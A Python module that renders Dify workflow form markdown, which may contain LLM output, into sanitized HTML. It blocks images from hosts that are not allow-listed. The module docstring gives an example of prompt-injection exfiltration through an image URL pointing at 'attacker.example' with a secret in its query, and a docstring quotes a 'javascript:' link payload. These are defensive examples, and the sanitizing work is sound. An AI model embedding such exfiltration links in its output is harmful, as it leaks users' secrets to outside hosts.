"""Markdown from Dify, turned into HTML that is safe to put in a page.

Form content is written by a workflow author and filled with workflow variables, often with LLM
output: it is untrusted. markdown-it renders it with raw HTML disabled, and nh3 (an allow-list
sanitizer) cleans the result anyway, so a renderer bug or a future option cannot let markup
through.

Images are held back: one the content chose would be fetched as soon as a reviewer opens the
form, telling its host who looked and when, and carrying off whatever a prompt injection put in
its URL (`![](https://attacker.example/?q=<secret>)`). Only https images from the hosts in
INBOX_MARKDOWN_IMAGE_HOSTS are shown; any other becomes a link the reviewer may choose to follow,
marked as an image not loaded. The Content-Security-Policy allows the same hosts and no others.
"""

from __future__ import annotations

import html
import re
from collections.abc import Collection
from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import nh3
from django.conf import settings
from django.utils.html import strip_tags
from django.utils.safestring import SafeString, mark_safe
from django.utils.translation import gettext
from markdown_it import MarkdownIt
from markdown_it.renderer import RendererHTML
from markdown_it.token import Token

# Dify marks where an input's field belongs with `{{#$output.<name>#}}`; its own form page splits
# the content on this pattern and renders each piece separately, and so do we.
PLACEHOLDER = re.compile(r"\{\{#\$output\.([^#{}]+?)#\}\}")

_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "code", "del", "details", "dd", "div", "dl", "dt", "em",
    "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
    "pre", "s", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "th", "thead",
    "tr", "ul",
}  # fmt: skip
_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "th": {"align", "colspan", "rowspan"},
    "td": {"align", "colspan", "rowspan"},
    "code": {"class"},
    # A table's scrolling box is named (`_wrap_tables`); content makes no div of its own.
    "div": {"aria-label"},
}
# The marker after an image not loaded: the only class content may carry, and only this one.
_BLOCKED_CLASS = "image-blocked"
# The box a table scrolls in (`_wrap_tables`): the only class a div may carry.
_TABLE_CLASS = "table-wrap"
_ATTRIBUTE_VALUES = {
    "span": {"class": {_BLOCKED_CLASS}},
    "div": {"class": {_TABLE_CLASS}, "tabindex": {"0"}, "role": {"region"}},
}
# No data: either: an image inlined in the content is as much the content's choice as a remote one.
_URL_SCHEMES = {"http", "https", "mailto"}

# `breaks`: a single newline is a line break, as on Dify's own pages (remark-breaks), where
# "**Customer:** Ada\n**Amount:** 120 EUR" reads as two lines, not one.
# `linkify`: a bare web address is a link, as GFM (and so Dify's page) makes it: one with its
# scheme ("https://…") or starting "www.". Not a bare name with a dot ("config.py",
# "README.md"), which linkify's fuzzy matching would take for a domain.
_md = MarkdownIt(
    "commonmark", {"html": False, "linkify": True, "typographer": False, "breaks": True}
).enable(["table", "strikethrough", "linkify"])
_linkify = _md.linkify
assert _linkify is not None  # linkify-it-py, installed with markdown-it-py[linkify]
_linkify.set({"fuzzy_link": False, "fuzzy_email": False})


def _www_link(_self: Any, match: Any) -> None:
    match.url = "http://" + match.url


_linkify.add(
    "www.",
    {
        # The rest of the host, then a path, query or fragment that does not end in the
        # sentence's punctuation.
        "validate": re.compile(
            r"^(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[/?#](?:[^\s<>]*[^\s<>.,;:!?'\")\]])?)?", re.I
        ),
        "normalize": _www_link,
    },
)
_plain = RendererHTML()  # an image's alt text, as the browser would show it


def _any_link(_url: str) -> bool:
    """Every link is parsed as one. markdown-it would leave a `javascript:` or `data:` link
    unparsed, its source shown as text ("[evil](javascript:alert(1))"); parsed, it shows its
    text, as on Dify's page, and the sanitizer drops the address (only http, https and mailto
    are kept) or, for an image, it is held back as any other."""
    return True


_md.validateLink = _any_link  # type: ignore[method-assign, assignment]


def image_allowed(src: str, hosts: Collection[str]) -> bool:
    """Whether an image at `src` may be loaded: https, on one of `hosts`, at the default port,
    with no user name (what a browser would take for the host is what is checked). A host
    `*.example.com` stands for any subdomain of example.com, as in the Content-Security-Policy
    the same setting writes."""
    try:
        parts = urlsplit(src)
        port = parts.port
    except ValueError:
        return False
    return (
        parts.scheme.lower() == "https"
        and _host_allowed(parts.hostname or "", hosts)
        and port in (None, 443)
        and parts.username is None
        and parts.password is None
    )


def _host_allowed(hostname: str, hosts: Collection[str]) -> bool:
    if not hostname:
        return False
    if hostname in hosts:
        return True
    # Every parent domain of the name, as a wildcard: a.b.example.com -> *.b.example.com,
    # *.example.com, *.com.
    labels = hostname.split(".")
    return any("*." + ".".join(labels[i:]) in hosts for i in range(1, len(labels)))


def sanitize(html: str) -> SafeString:
    """Keep only harmless markup: no scripts, handlers, styles, frames or non-web URLs, and no
    image from a host not allowed (render_markdown has already made those links; this catches
    an image that reached the sanitizer any other way, which is left without a source)."""
    hosts = frozenset(settings.INBOX_MARKDOWN_IMAGE_HOSTS)

    def allowed_images_only(tag: str, attribute: str, value: str) -> str | None:
        if tag == "img" and attribute == "src" and not image_allowed(value, hosts):
            return None
        return value

    cleaned = nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        tag_attribute_values=_ATTRIBUTE_VALUES,
        attribute_filter=allowed_images_only,
        url_schemes=_URL_SCHEMES,
        # Links open content the workflow chose; they must not reach back into our page.
        link_rel="noopener noreferrer nofollow",
        strip_comments=True,
    )
    return mark_safe(cleaned)  # noqa: S308 - nh3 output is the allow-listed subset


def _image_not_loaded(image: Token, inside_link: bool) -> list[Token]:
    """An image held back: a link to it (its alt text, else its host, as the link's text) and a
    marker saying it is an image not loaded. Inside a link, where a second link cannot go, and
    for a URL that is not a web address (a data: image, a relative path), the text and the
    marker only."""
    src = str(image.attrGet("src") or "")
    try:
        parts = urlsplit(src)
        host = (parts.hostname or "") if parts.scheme.lower() in ("http", "https") else ""
    except ValueError:
        host = ""
    alt = _plain.renderInlineAsText(image.children or [], _md.options, {}).strip()
    tokens: list[Token] = []
    if host and not inside_link:
        link = Token("link_open", "a", 1, attrs={"href": src})
        if image.attrGet("title"):
            link.attrSet("title", str(image.attrGet("title")))
        tokens += [link, Token("text", "", 0, content=alt or host), Token("link_close", "a", -1)]
    elif alt:
        tokens.append(Token("text", "", 0, content=alt))
    marker = (
        gettext("Image not loaded: %(host)s") % {"host": host}
        if host
        else gettext("Image not loaded")
    )
    if tokens:
        tokens.append(Token("text", "", 0, content=" "))
    return [
        *tokens,
        Token("image_blocked_open", "span", 1, attrs={"class": _BLOCKED_CLASS}),
        Token("text", "", 0, content=marker),
        Token("image_blocked_close", "span", -1),
    ]


def _hold_back_images(tokens: list[Token], hosts: Collection[str]) -> None:
    for block in tokens:
        if block.type != "inline" or not block.children:
            continue
        children: list[Token] = []
        links = 0
        for token in block.children:
            if token.type == "link_open":
                links += 1
            elif token.type == "link_close":
                links -= 1
            if token.type == "image" and not image_allowed(str(token.attrGet("src") or ""), hosts):
                children += _image_not_loaded(token, inside_link=links > 0)
            else:
                children.append(token)
        block.children = children


def _wrap_tables(tokens: list[Token]) -> list[Token]:
    """Each table in a box of its own that scrolls sideways (and takes the keyboard's focus to
    do so), so a wide table neither crushes its columns nor widens the page."""
    wrapped: list[Token] = []
    for token in tokens:
        if token.type == "table_open":
            wrapped.append(
                Token(
                    "table_wrap_open",
                    "div",
                    1,
                    attrs={
                        "class": _TABLE_CLASS,
                        "tabindex": "0",
                        "role": "region",
                        "aria-label": gettext("Table"),
                    },
                    block=True,
                )
            )
        wrapped.append(token)
        if token.type == "table_close":
            wrapped.append(Token("table_wrap_close", "div", -1, block=True))
    return wrapped


def heading_levels(text: str) -> tuple[int, ...]:
    """The heading levels the content uses (1 for `#`), highest first."""
    return tuple(sorted({int(t.tag[1]) for t in _md.parse(text or "") if t.type == "heading_open"}))


def render_markdown(
    text: str,
    *,
    heading_below: int = 2,
    levels: tuple[int, ...] | None = None,
    first_piece: bool = True,
) -> SafeString:
    """`heading_below`: the page's own heading levels above the content. A form's content
    follows its h1 (its highest heading is an h2); a record or an answer sits under an h2 (its
    highest is an h3). The content's levels keep their order and skip none: an LLM that
    writes `###` then `#####` gets the page's next two levels. `levels`: those the whole
    content uses, when `text` is a piece of it; `first_piece`: False for a piece after the
    first (its first heading follows the last one of the piece before, not the page's)."""
    tokens = _md.parse(text or "")
    if levels is None:
        levels = tuple(sorted({int(t.tag[1]) for t in tokens if t.type == "heading_open"}))
    rank = {level: index for index, level in enumerate(levels)}
    # In the order they are read, a heading goes at most one level below the one before.
    previous = heading_below if first_piece else 6
    for token in tokens:
        if token.type == "heading_open":
            level = min(rank.get(int(token.tag[1]), 0) + heading_below + 1, previous + 1, 6)
            token.tag = f"h{level}"
            previous = level
        elif token.type == "heading_close":
            token.tag = f"h{previous}"
    _hold_back_images(tokens, frozenset(settings.INBOX_MARKDOWN_IMAGE_HOSTS))
    return sanitize(_md.renderer.render(_wrap_tables(_drop_empty_heads(tokens)), _md.options, {}))


def _drop_empty_heads(tokens: list[Token]) -> list[Token]:
    """A table whose header row is empty (an LLM's table of values with no column names) has
    no header: an empty one is read out as empty column headers."""
    kept: list[Token] = []
    head: list[Token] | None = None
    for token in tokens:
        if token.type == "thead_open":
            head = [token]
            continue
        if head is not None:
            head.append(token)
            if token.type == "thead_close":
                if any(t.type == "inline" and t.content.strip() for t in head):
                    kept.extend(head)
                head = None
            continue
        kept.append(token)
    return kept


@dataclass(frozen=True)
class Segment:
    """A piece of form content: either HTML, or the place where an input's field goes."""

    html: SafeString | None = None
    input_name: str | None = None


def split_content(text: str, input_names: list[str]) -> tuple[list[Segment], list[str]]:
    """Split content at its placeholders; return the segments and the inputs left to place.

    A placeholder naming no input shows nothing, as in Dify. A second placeholder for an input
    already placed also shows nothing: one field per input keeps the submitted value unambiguous.
    Inputs without a placeholder are returned so the page can put them after the content.
    """
    known = set(input_names)
    placed: list[str] = []
    segments: list[Segment] = []
    # One heading scale for every piece, as if the content were rendered whole.
    levels = heading_levels(PLACEHOLDER.sub(" ", text or ""))
    pieces = 0
    pos = 0
    # Text is cut only where a field goes: a placeholder that places nothing is taken out of
    # the text, which stays whole around it (a quote, a list, a table is not broken in two).
    before = ""
    for match in PLACEHOLDER.finditer(text or ""):
        before += text[pos : match.start()]
        pos = match.end()
        name = match.group(1).strip()
        if name not in known or name in placed:
            continue
        if before.strip():
            html_piece = render_markdown(
                before, heading_below=1, levels=levels, first_piece=pieces == 0
            )
            segments.append(Segment(html=html_piece))
            pieces += 1
        before = ""
        placed.append(name)
        segments.append(Segment(input_name=name))
    rest = before + (text or "")[pos:]
    if rest.strip():
        html_piece = render_markdown(rest, heading_below=1, levels=levels, first_piece=pieces == 0)
        segments.append(Segment(html=html_piece))
    return segments, [name for name in input_names if name not in placed]


# A line that ends so that the next may simply follow it.
# The Chinese full stop, exclamation and question marks, colon, semicolon, commas.
_FULL_WIDTH_ENDS = frozenset("\u3002\uff01\uff1f\uff1a\uff1b\uff0c\u3001")
_ENDS_PHRASE = re.compile("[.!?:;,\u2026" + "".join(sorted(_FULL_WIDTH_ENDS)) + "]$")


def one_line(text: str) -> str:
    """Lines as one: a line that ends its phrase is followed by the next after a space (none
    after Chinese punctuation), any other (a heading, a list item, a field and its value) by
    " · ", so that lines of content do not run together into one phrase."""
    out = ""
    for raw in text.splitlines():
        line = " ".join(raw.split())
        if not line:
            continue
        if not out:
            out = line
        elif _ENDS_PHRASE.search(out):
            out += ("" if out[-1] in _FULL_WIDTH_ENDS else " ") + line
        else:
            out += " · " + line
    return out


def excerpt(text: str, length: int = 140) -> str:
    """One line of plain text for a list row: markup, placeholders and blank lines removed."""
    line = one_line(html.unescape(strip_tags(_md.render(PLACEHOLDER.sub(" ", text or "")))))
    return line if len(line) <= length else line[: length - 1].rstrip() + "…"


# HTML's own elements and comments. Anything else in angle brackets is the content's text
# ("Refund <customer name>", "amount < 500 and days > 30"), as the form page shows it. A tag's
# attributes each have a value ("<a href=x>") or are one of HTML's yes-or-no ones ("<details
# open>"), so "a<b and c>d" is text, not a <b> tag.
_HTML_TAGS = re.compile(
    r"<!--.*?-->|</?(?:a|abbr|address|article|aside|audio|b|base|bdi|bdo|big|blockquote|body"
    r"|br|button|canvas|caption|center|cite|code|col|colgroup|data|dd|del|details|dfn|dialog"
    r"|div|dl|dt|em|embed|fieldset|figcaption|figure|font|footer|form|frame|frameset|h[1-6]"
    r"|head|header|hr|html|i|iframe|img|input|ins|kbd|label|legend|li|link|main|map|mark"
    r"|marquee|math|menu|meta|meter|nav|noscript|object|ol|optgroup|option|output|p|param"
    r"|picture|pre|progress|q|rp|rt|ruby|s|samp|script|section|select|small|source|span"
    r"|strike|strong|style|sub|summary|sup|svg|table|tbody|td|template|textarea|tfoot|th"
    r"|thead|time|title|tr|track|tt|u|ul|var|video|wbr)"
    r"""(?:\s+(?:[^\s"'<>/=]+\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'<>=`]+)|"""
    r"(?:allowfullscreen|async|autofocus|autoplay|checked|controls|default|defer|disabled"
    r"|hidden|inert|ismap|loop|multiple|muted|nomodule|novalidate|nowrap|open|readonly"
    r"|required|reversed|selected)(?=[\s/>])))*\s*/?>",
    re.IGNORECASE | re.DOTALL,
)
# A code span ("`x <b>`"): its text is shown as written, angle brackets and all.
_CODE_SPAN = re.compile(r"(`+)(?!`).+?(?<!`)\1(?!`)", re.DOTALL)


def strip_html_tags(text: str, replacement: str = " ") -> str:
    """`text` without HTML's tags and comments, outside code spans."""
    out, pos = [], 0
    for match in _CODE_SPAN.finditer(text):
        out += [_HTML_TAGS.sub(replacement, text[pos : match.start()]), match.group(0)]
        pos = match.end()
    return "".join([*out, _HTML_TAGS.sub(replacement, text[pos:])])


# A link's or image's text (it may hold one level of brackets: "[a [b] c](…)", an image in a
# link).
_LINKS = re.compile(r"!?\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\((?:[^()]|\([^()]*\))*\)")
# Emphasis and strike-through marks paired around text at a word's edges ("**x**", "_x_",
# "~~x~~"). Inside a word they are the text's ("SO_2026_0001", "2*4"), as CommonMark reads "_".
_EMPHASIS = re.compile(r"(?<![\w*_~])([*_~]{1,3})(?=[^\s*_~])(.+?)(?<=[^\s*_~])\1(?![\w*_~])")
# Code marks; a heading's at the start of a line ("C# team", "#4471" are the text's); a table's
# pipes at a line's ends or set apart by spaces; a quote's ">" at the start of a line (a ">"
# inside a line is the text's: "days > 30").
_MARKS = re.compile(
    r"`+|(?m:^[ \t]*#{1,6}(?=[ \t]|$))|(?m:^[ \t]*\||\|[ \t]*$)| \|(?= )|(?m:^[ \t>]*>)"
)
# A line that is only a rule or a table's delimiter row ("---", "|:---|---:|", "===").
_RULE_LINES = re.compile(r"(?m)^[ \t]*[-=:|*_ \t]{3,}$")
# A list item's marker at the start of a line ("- ", "* ", "+ ", "1. ").
_LIST_MARKERS = re.compile(r"(?m)^[ \t]*(?:[-*+]|\d{1,9}[.)])[ \t]+")


def quick_excerpt(text: str, length: int = 140) -> str:
    """A list row's excerpt without a full Markdown parse: links keep their text, emphasis,
    heading and quote marks and inline tags go. Good enough for one line of preview, and
    cheap enough for fifty rows per page."""
    text = _LIST_MARKERS.sub("", _RULE_LINES.sub(" ", PLACEHOLDER.sub(" ", text or "")))
    plain = _MARKS.sub(" ", strip_html_tags(text, ""))
    # Again on what a link or emphasis kept: an image inside a link, emphasis inside either.
    for _round in range(3):
        stripped = _EMPHASIS.sub(r"\2", _LINKS.sub(lambda m: m.group(1), plain))
        if stripped == plain:
            break
        plain = stripped
    line = one_line(html.unescape(plain))
    return line if len(line) <= length else line[: length - 1].rstrip() + "…"
